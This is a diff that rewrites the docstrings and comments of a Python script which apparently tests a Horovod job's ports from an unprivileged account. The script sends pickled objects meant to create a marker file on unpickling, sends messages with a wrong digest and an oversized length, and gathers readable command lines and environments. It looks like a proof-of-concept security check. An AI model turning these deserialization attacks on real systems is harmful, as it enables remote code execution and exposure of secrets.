@@ -1,7 +1,7 @@
-"""What a stranger can do at the ports of a job: `python stranger.py REACHED ADDRESS:PORT ...`. It needs no rights.
+"""Attack the ports of a job as a user without rights: `python stranger.py REACHED ADDRESS:PORT ...`.
 
-It prints as JSON what it got: the answers that are not refusals, the bytes that were accepted, and what it could read.
-The file REACHED exists afterwards if the job has run its code.
+The attacks send objects whose unpickling would create the file REACHED. The program prints a JSON dict: "got" has each
+request that was not refused, and "shown" has the command lines and environments that this user can read.
 """
 
 from __future__ import annotations
@@ -27,7 +27,7 @@ class Evil:
 
 
 def request(host: str, port: int, head: str, body: bytes = b"") -> tuple[str, int]:
-    """Return the first line of the answer, and how many bytes of the body could be sent."""
+    """Send an HTTP request. Return the first line of the answer and the number of bytes of the body that were sent."""
     sent = 0
     try:
         with socket.create_connection((host, port), timeout=2) as connection:
@@ -37,7 +37,7 @@ def request(host: str, port: int, head: str, body: bytes = b"") -> tuple[str, in
                     connection.sendall(body[at : at + 65536])
                     sent = at + 65536
             except OSError:
-                pass  # it does not listen any more: what it said is still there
+                pass  # the server has closed the connection; its answer can still be read
             return connection.recv(65536).partition(b"\r\n")[0].decode(errors="replace"), sent
     except OSError:
         return "", sent
@@ -68,7 +68,10 @@ def attack(place: str) -> list[str]:
 
 
 def speak(host: str, port: int, data: bytes) -> None:
-    """Send a message to Horovod's other services: a digest, a length, and the message."""
+    """Send `data` in the format of Horovod's services: a digest, a length and the message.
+
+    The digest is wrong. Once, the length is wrong too.
+    """
     for length in (2**31 - 1, len(data)):
         try:
             with socket.create_connection((host, port), timeout=2) as connection:
